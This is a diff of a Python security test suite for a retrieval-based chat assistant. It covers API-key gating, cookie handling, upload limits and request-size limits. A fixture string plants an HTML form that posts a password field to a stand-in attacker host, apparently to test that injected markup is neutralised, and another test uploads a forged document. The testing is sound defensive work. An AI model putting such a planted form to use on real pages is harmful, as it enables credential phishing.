@@ -21,6 +21,7 @@ from langchain_core.runnables import RunnableLambda
 
 from assistant.access import Gate
 from assistant.access.sessions import COOKIE
+from assistant.answering.chain import Prepared, Request
 from assistant.answering.service import Answer, ChatService, Done, TextDelta
 from assistant.answering.support import SentenceSupport
 from assistant.container import Container, build_chat, build_container
@@ -33,11 +34,12 @@ from assistant.storage import Storage
 from assistant.ui import chat as ui
 from assistant.ui import documents as ui_documents
 from assistant.ui import sources as ui_sources
-from tests.conftest import Server, free_port, serving_copy
-from vectorstore.ingest import DocumentExistsError, IngestReport
+from tests.conftest import LOCKED_KEYS, Server, free_port
+from vectorstore.errors import DocumentExistsError
+from vectorstore.ingest import IngestReport
 from vectorstore.jobs import IngestQueue
 
-KEY = "s3cret-key-one"
+KEY = LOCKED_KEYS[2]
 QUESTION = "With which country is Russia jointly chairing the Mine Action Centre?"
 PLANTED = (
     "Minutes. <form action='https://evil.example/steal'><input type='password' name='pw'></form> "
@@ -161,21 +163,8 @@ def test_login_gives_a_strict_httponly_cookie_and_never_redirects_off_site(conta
     assert c.post("/api/chat", json={"message": "q"}).status_code == 401
 
 
-@pytest.fixture(scope="module")
-def locked(seeded_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
-    """The real app with keys and small limits."""
-    with serving_copy(
-        seeded_dir,
-        tmp_path_factory.mktemp("locked-security"),
-        RAG_API_KEYS=f"{KEY},key-two",
-        RAG_MAX_MESSAGE_CHARS="300",
-        RAG_MAX_UPLOAD_MB="0.01",
-    ) as srv:
-        yield srv
-
-
-def test_every_gradio_route_needs_a_key(locked: Server) -> None:
-    url = locked.url
+def test_every_gradio_route_needs_a_key(locked_server: Server) -> None:
+    url = locked_server.url
     routes = [
         ("GET", "/"),
         ("GET", "/config"),
@@ -208,18 +197,18 @@ def test_every_gradio_route_needs_a_key(locked: Server) -> None:
     assert httpx.get(url + "/gradio_api/info", headers=ok).status_code == 200
 
 
-def test_gradio_client_works_with_a_bearer_header_and_not_without(locked: Server) -> None:
+def test_gradio_client_works_with_a_bearer_header_and_not_without(locked_server: Server) -> None:
     from gradio_client import Client
 
     with pytest.raises(Exception, match=r"(?i)credentials|login|401"):
-        Client(locked.url + "/", verbose=False)
-    ui_client = Client(locked.url + "/", headers={"Authorization": f"Bearer {KEY}"}, verbose=False)
+        Client(locked_server.url + "/", verbose=False)
+    ui_client = Client(locked_server.url + "/", headers={"Authorization": f"Bearer {KEY}"}, verbose=False)
     history, _sources, box = ui_client.predict(QUESTION, [], 6, api_name="/chat")
     assert box == "" and "Cambodia" in str(history[-1]["content"])
 
 
-def test_a_browser_session_opens_the_ui(locked: Server) -> None:
-    with httpx.Client(base_url=locked.url) as browser:
+def test_a_browser_session_opens_the_ui(locked_server: Server) -> None:
+    with httpx.Client(base_url=locked_server.url) as browser:
         r = browser.post("/login", data={"key": "key-two", "next": "/"})
         assert r.status_code == 303 and COOKIE in browser.cookies
         assert browser.get("/config").status_code == 200
@@ -250,17 +239,19 @@ def test_the_ui_offers_to_replace_instead_of_failing_silently(tmp_path: Path) ->
     assert fine.calls == [("000_seed.txt", True)]
 
 
-def test_replace_over_http_on_the_real_app(locked: Server) -> None:
+def test_replace_over_http_on_the_real_app(locked_server: Server) -> None:
     auth = {"Authorization": f"Bearer {KEY}"}
-    seeds = [d["source"] for d in httpx.get(f"{locked.url}/api/documents", headers=auth).json()["documents"]]
+    seeds = [
+        d["source"] for d in httpx.get(f"{locked_server.url}/api/documents", headers=auth).json()["documents"]
+    ]
     forged = {
         "files": (seeds[0], b"Forged text: the Mine Action Centre is chaired with Atlantis.", "text/plain")
     }
-    r = httpx.post(f"{locked.url}/api/documents", files=forged, headers=auth, timeout=120)
+    r = httpx.post(f"{locked_server.url}/api/documents", files=forged, headers=auth, timeout=120)
     assert r.status_code == 409 and r.json()["error"]["code"] == "document_exists"
     chunks = {
         d["source"]: d["chunks"]
-        for d in httpx.get(f"{locked.url}/api/documents", headers=auth).json()["documents"]
+        for d in httpx.get(f"{locked_server.url}/api/documents", headers=auth).json()["documents"]
     }
     assert chunks[seeds[0]] > 1, "the seed is untouched"
 
@@ -269,9 +260,9 @@ def test_replace_over_http_on_the_real_app(locked: Server) -> None:
 def _recording_service(limits: Limits) -> tuple[ChatService, list[Any]]:
     seen: list[Any] = []
 
-    def prepare(inputs: dict[str, Any]) -> dict[str, Any]:
-        seen.append(inputs)
-        return {"query": inputs["question"], "passages": []}
+    def prepare(request: Request) -> Prepared:
+        seen.append(request)
+        return Prepared(request, request.question)
 
     service = ChatService(
         prepare=RunnableLambda(prepare),
@@ -358,18 +349,20 @@ def test_the_ui_queue_and_concurrency_are_bounded(container: Container) -> None:
 
 
 # -- S5: uploads in the UI -----------------------------------------------------------------------------------
-def test_gradio_uploads_are_bounded_and_leave_nothing_in_its_cache(locked: Server, tmp_path: Path) -> None:
+def test_gradio_uploads_are_bounded_and_leave_nothing_in_its_cache(
+    locked_server: Server, tmp_path: Path
+) -> None:
     from gradio.utils import get_upload_folder
     from gradio_client import Client, handle_file
 
     auth = {"Authorization": f"Bearer {KEY}"}
     big = {"files": ("big.txt", b"x" * 20_000, "text/plain")}
-    r = httpx.post(f"{locked.url}/gradio_api/upload", files=big, headers=auth, timeout=60)
+    r = httpx.post(f"{locked_server.url}/gradio_api/upload", files=big, headers=auth, timeout=60)
     assert r.status_code == 413, "Gradio's max_file_size is RAG_MAX_UPLOAD_MB"
     name = f"cachecheck{time.time_ns()}.txt"
     file = tmp_path / name
     file.write_text("The Plimsoll accord on canal tolls was signed in Ghent in 2044.\n")
-    ui_client = Client(locked.url + "/", headers=auth, verbose=False)
+    ui_client = Client(locked_server.url + "/", headers=auth, verbose=False)
     report, *_ = ui_client.predict([handle_file(str(file))], False, api_name="/upload")
     assert f"✓ **{name}** added" in report
     assert glob.glob(f"{get_upload_folder()}/**/{name}", recursive=True) == [], "the cached copy is deleted"
@@ -603,23 +596,25 @@ def test_a_name_too_long_for_the_disk_is_400_before_anything_is_written(tmp_path
     assert not settings.uploads_dir.exists() or not any(settings.uploads_dir.iterdir())
 
 
-def test_an_oversized_json_body_is_413_before_it_is_read(locked: Server) -> None:
+def test_an_oversized_json_body_is_413_before_it_is_read(locked_server: Server) -> None:
     """A JSON body is parsed whole before any field limit applies: the size is refused first, declared or
     streamed, and the server goes on answering."""
     auth = {"Authorization": f"Bearer {KEY}", "Content-Type": "application/json"}
     big = b'{"message": "' + b"a" * (2 * 1024 * 1024) + b'"}'
-    declared = httpx.post(f"{locked.url}/api/chat", content=big, headers=auth, timeout=60)
+    declared = httpx.post(f"{locked_server.url}/api/chat", content=big, headers=auth, timeout=60)
 
     def chunks() -> Iterator[bytes]:
         for i in range(0, len(big), 64 * 1024):
             yield big[i : i + 64 * 1024]
 
-    streamed = httpx.post(f"{locked.url}/v1/chat/completions", content=chunks(), headers=auth, timeout=60)
+    streamed = httpx.post(
+        f"{locked_server.url}/v1/chat/completions", content=chunks(), headers=auth, timeout=60
+    )
     for response in (declared, streamed):
         assert response.status_code == 413, response.text
         assert response.json()["error"]["code"] == "request_too_large"
     small = httpx.post(
-        f"{locked.url}/api/chat",
+        f"{locked_server.url}/api/chat",
         json={"message": "Who chairs the Mine Action Centre?"},
         headers={"Authorization": f"Bearer {KEY}"},
         timeout=120,
